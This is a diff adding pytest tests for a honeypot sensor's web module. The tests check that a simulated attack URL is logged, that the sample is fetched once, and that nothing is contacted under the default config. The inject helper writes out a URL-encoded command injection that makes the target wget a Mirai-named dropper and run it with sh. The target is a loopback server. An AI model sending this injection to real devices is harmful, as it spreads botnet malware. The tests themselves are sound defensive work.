@@ -7,6 +7,7 @@ import subprocess
 import shutil
 import socket
 import threading
+import time
 
 import pytest
 
@@ -135,5 +136,73 @@ def test_tftp_fetch_from_a_real_tftpd(tmp_path, tftpd):
         assert f" {len(sample)} " in r.stdout
         e = wait_for(lambda: [x for x in s.events(event="file.download") if x.get("url", "").startswith("tftp://")], 10)
         assert e and e[0]["sha256"] == sha and e[0]["url"] == f"tftp://127.0.0.1:{port}/mirai.arm7"
+    finally:
+        s.stop()
+
+
+WEB = """
+honeypots:
+  trap:
+    enabled: false
+  telnet:
+    enabled: false
+  ssh:
+    enabled: false
+  web:
+    tcp_ports: [8080]
+    https_ports: []
+"""
+WEB_FETCHING = WEB + """    downloads:
+      enabled: true
+      allow_private: true
+      max_bytes: 1MiB
+"""
+
+
+def inject(port, served_port, marker):
+    """A Realtek/GPON-style command injection (URL-encoded, as bots send it) naming the loopback dropper."""
+    cmd = f"cd /tmp;wget http://127.0.0.1:{served_port}/bins/mirai.x86 -O m;sh m {marker}"
+    return subprocess.run(["curl", "-sS", "--max-time", "10", "-A", "Hello, World", "--data-urlencode", f"cmd={cmd}",
+                           f"http://127.0.0.1:{port}/cgi-bin/ViewLog.asp"], capture_output=True, timeout=30)
+
+
+def test_web_attack_url_is_seen_fetched_once_and_stored(tmp_path, served):
+    port, sample, seen = served
+    sha = hashlib.sha256(sample).hexdigest()
+    dropper = f"http://127.0.0.1:{port}/bins/mirai.x86"
+    s = Sensor(tmp_path, WEB_FETCHING, free_port_base(), worker="web").start()
+    try:
+        before = len([p for p, _ in seen if p == "/bins/mirai.x86"])
+        assert inject(8080 + s.offset, port, "first").returncode == 0
+        urls = wait_for(lambda: [e for e in s.events(event="url.seen") if e.get("url") == dropper], 10)
+        assert urls and urls[0]["message"] == "in body" and "cmd_injection" in urls[0]["attack"]["categories"], urls
+        got = wait_for(lambda: [e for e in s.events(event="file.download") if e.get("url") == dropper], 15)
+        assert got and got[0]["sha256"] == sha and got[0]["size"] == len(sample) and got[0]["honeypot"] == "web", got
+        assert got[0]["session"] == urls[0]["session"] and got[0]["filename"] == "mirai.x86"
+        stored = os.path.join(s.data, "artifacts", "sha256", sha[:2], sha)
+        with open(stored, "rb") as f:
+            assert hashlib.sha256(f.read()).hexdigest() == sha
+        req = [e for e in s.events(event="http.request") if e["session"] == urls[0]["session"]]
+        assert req and req[0]["http"]["client"] == "attacker" and len(req[0]["http"]["client_session"]) == 16
+        # The same dropper sprayed again: recorded again, fetched once.
+        assert inject(8080 + s.offset, port, "second").returncode == 0
+        assert wait_for(lambda: len([e for e in s.events(event="url.seen") if e.get("url") == dropper]) == 2, 10)
+        time.sleep(0.5)
+        assert len([p for p, _ in seen if p == "/bins/mirai.x86"]) == before + 1
+        assert len(s.events(event="file.download")) == 1
+    finally:
+        s.stop()
+
+
+def test_web_default_config_records_the_url_but_contacts_nothing(tmp_path, served):
+    port, _, seen = served
+    before = len(seen)
+    s = Sensor(tmp_path, WEB, free_port_base(), worker="web").start()
+    try:
+        assert inject(8080 + s.offset, port, "off").returncode == 0
+        assert wait_for(lambda: s.events(event="url.seen"), 10)
+        time.sleep(0.5)
+        assert s.events(event="file.download") == [] and s.events(event="file.download.failed") == []
+        assert len(seen) == before, "web downloads are off by default: the server must not be contacted"
     finally:
         s.stop()
